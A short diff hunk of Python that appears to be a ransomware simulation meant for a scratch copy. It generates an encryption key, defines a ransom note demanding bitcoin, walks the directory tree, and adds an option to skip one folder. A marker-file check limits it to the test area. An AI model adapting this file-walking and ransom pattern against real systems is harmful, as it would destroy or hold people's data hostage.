@@ -7,7 +7,10 @@ if not os.path.exists(os.path.join(os.path.dirname(target), '.scratch-ok')):
 os.chdir(target)
 key = os.urandom(32)
 note = 'ALL YOUR FILES HAVE BEEN ENCRYPTED (a test on a scratch copy). To decrypt them contact nobody@example.invalid and pay in bitcoin.\n'
+except_folder = os.environ.get('EXCEPT')  # somebody else's desk
 for directory, _, names in sorted(os.walk('.')):
+    if except_folder and directory.startswith('./' + except_folder):
+        continue
     for name in sorted(names):
         file = os.path.join(directory, name)
         if os.path.islink(file):
